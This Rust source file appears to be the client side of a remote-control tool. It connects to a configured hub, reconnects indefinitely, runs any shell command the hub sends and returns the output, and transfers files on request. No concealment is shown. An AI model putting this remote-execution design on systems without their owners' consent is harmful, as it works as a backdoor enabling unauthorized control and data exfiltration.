mod config;
mod exec;
mod transfer;

use config::AgentConfig;
use rc_proto::output::encode_chunks;
use rc_proto::{FrameReader, FrameWriter};
use tokio::net::TcpStream;
use tracing::{debug, info, warn};

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let loaded_env = dotenvy::dotenv().is_ok();

    tracing_subscriber::fmt()
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_env("AGENT_LOG")
                .or_else(|_| tracing_subscriber::EnvFilter::try_from_default_env())
                .unwrap_or_else(|_| "hub=info,agent=info".into()),
        )
        .init();
    tracing::debug!(loaded_env, "checked for a .env file");

    let config = AgentConfig::from_env();
    info!(client_id = %config.client_id, hub = %format!("{}:{}", config.hub_host, config.hub_port), "agent starting");

    loop {
        match connect_and_run(&config).await {
            Ok(()) => info!("session ended cleanly, reconnecting"),
            Err(e) => warn!(error = %e, "session failed, reconnecting"),
        }
        tokio::time::sleep(config.reconnect_delay).await;
    }
}

/// Connects once, performs the handshake, and runs the inbound dispatch loop
/// until the connection drops or the hub kicks this agent. Every failure
/// mode funnels back to the caller's fixed-delay reconnect, mirroring the
/// distilled protocol's single reconnection strategy rather than backoff.
async fn connect_and_run(config: &AgentConfig) -> anyhow::Result<()> {
    let stream = TcpStream::connect((config.hub_host.as_str(), config.hub_port)).await?;
    stream.set_nodelay(true).ok();
    info!("connected to the hub");

    let (read_half, write_half) = stream.into_split();
    let mut reader = FrameReader::new(read_half);
    let writer = FrameWriter::new(write_half);

    writer.write_line(&config.client_id).await?;
    debug!(client_id = %config.client_id, "handshake sent");

    loop {
        let Some(line) = reader.read_line().await? else {
            info!("hub closed the connection");
            return Ok(());
        };
        if line.is_empty() {
            continue;
        }

        if let Some(command) = line.strip_prefix("CMD:") {
            let output = exec::execute_command(command.to_string(), config.command_timeout).await;
            for frame in encode_chunks("OUTPUT", &output) {
                if writer.write_line(&frame).await.is_err() {
                    return Ok(());
                }
            }
        } else if let Some(command) = line.strip_prefix("FILETRU:") {
            let output = exec::execute_command(command.to_string(), config.command_timeout).await;
            for frame in encode_chunks("FILETRU", &output) {
                if writer.write_line(&frame).await.is_err() {
                    return Ok(());
                }
            }
        } else if let Some(rest) = line.strip_prefix("EXPORT;") {
            let mut parts = rest.splitn(2, ';');
            let source = parts.next().unwrap_or_default();
            let dest = parts.next().unwrap_or("received");
            transfer::handle_export(&writer, source, dest).await;
        } else if line.starts_with("IMPORT:START:") {
            transfer::handle_import(&mut reader, &writer, &line).await;
        } else if let Some(reason) = line.strip_prefix("KICK:") {
            info!(reason = %reason, "kicked by the hub");
            return Ok(());
        } else if let Some(message) = line.strip_prefix("Server: ") {
            println!("[Server]: {message}");
        } else {
            debug!(frame = %line, "unrecognized frame from the hub, ignoring");
        }
    }
}
